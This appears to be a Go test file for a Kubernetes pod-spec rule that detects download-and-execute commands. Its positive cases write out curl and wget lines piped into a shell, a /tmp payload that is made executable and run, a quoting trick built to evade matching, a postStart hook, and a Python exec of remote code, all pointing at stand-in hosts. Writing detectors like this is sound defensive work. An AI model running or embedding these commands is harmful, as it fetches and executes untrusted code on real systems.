package rules

import "testing"

func TestExecDownloadExecute(t *testing.T) {
	runExecCases(t, "exec-download-execute", []execCase{
		{name: "curl piped into sh", podSpec: shC("curl -fsSL http://203.0.113.7/i.sh | sh"), want: 1, contains: "command"},
		{name: "wget written then run", podSpec: shC("wget -q -O /tmp/x http://203.0.113.7/x && chmod +x /tmp/x && /tmp/x"), want: 1, contains: "/tmp/x"},
		{name: "quoting tricks", podSpec: shC(`c''url -s http://198.51.100.1/p | "s"h`), want: 1, contains: "command"},
		{name: "args only", podSpec: "containers:\n- name: app\n  image: alpine\n  args: [\"sh\", \"-c\", \"wget -qO- http://x.example/a | bash\"]", want: 1, contains: "args"},
		{name: "postStart hook", podSpec: "containers:\n- name: app\n  image: nginx\n  lifecycle:\n    postStart:\n      exec:\n        command: [\"sh\", \"-c\", \"curl -s http://203.0.113.7/k | sh\"]", want: 1, contains: "lifecycle.postStart"},
		{
			name:       "script from a mounted ConfigMap",
			podSpec:    "containers:\n- name: app\n  image: busybox\n  command: [\"sh\", \"/scripts/run.sh\"]\n  volumeMounts:\n  - {name: s, mountPath: /scripts}\nvolumes:\n- name: s\n  configMap: {name: tools}",
			configMaps: []string{"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: tools, namespace: ns}\ndata:\n  run.sh: |\n    U=http://203.0.113.7/x\n    curl -s $U | sh\n"},
			want:       1, contains: "ConfigMap ns/tools key run.sh",
		},
		{
			name:       "script from a ConfigMap item mounted with subPath",
			podSpec:    "containers:\n- name: app\n  image: busybox\n  command: [\"/bin/bash\", \"/opt/entry.sh\"]\n  volumeMounts:\n  - {name: s, mountPath: /opt/entry.sh, subPath: entry}\nvolumes:\n- name: s\n  configMap: {name: tools}",
			configMaps: []string{"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: tools, namespace: ns}\ndata:\n  entry: \"wget -qO- http://203.0.113.7/a | sh\"\n"},
			want:       1, contains: "key entry",
		},
		{
			name:       "Python script from a ConfigMap is read as Python",
			podSpec:    "containers:\n- name: app\n  image: python:3.12\n  command: [\"python3\", \"/jobs/job.py\"]\n  volumeMounts:\n  - {name: s, mountPath: /jobs}\nvolumes:\n- name: s\n  configMap: {name: jobs}",
			configMaps: []string{"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: jobs, namespace: ns}\ndata:\n  job.py: |\n    import urllib.request\n    exec(urllib.request.urlopen('http://203.0.113.7/p.py').read())\n"},
			want:       1, contains: "key job.py",
		},
		{
			name:       "ConfigMap in another namespace is not the one mounted",
			podSpec:    "containers:\n- name: app\n  image: busybox\n  command: [\"sh\", \"/scripts/run.sh\"]\n  volumeMounts:\n  - {name: s, mountPath: /scripts}\nvolumes:\n- name: s\n  configMap: {name: tools}",
			configMaps: []string{"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: tools, namespace: other}\ndata:\n  run.sh: \"curl -s http://203.0.113.7/x | sh\"\n"},
			want:       0,
		},
		{name: "backup calls an internal endpoint", podSpec: shC("pg_dump shop | gzip > /backup/x.gz && curl -fsS -X POST http://catalog.ops.svc.cluster.local/done"), want: 0},
		{name: "download kept as data", podSpec: shC("wget -O /data/dump.sql http://db.internal/dump"), want: 0},
		{name: "no command", podSpec: "containers:\n- name: app\n  image: nginx", want: 0},
	})
}
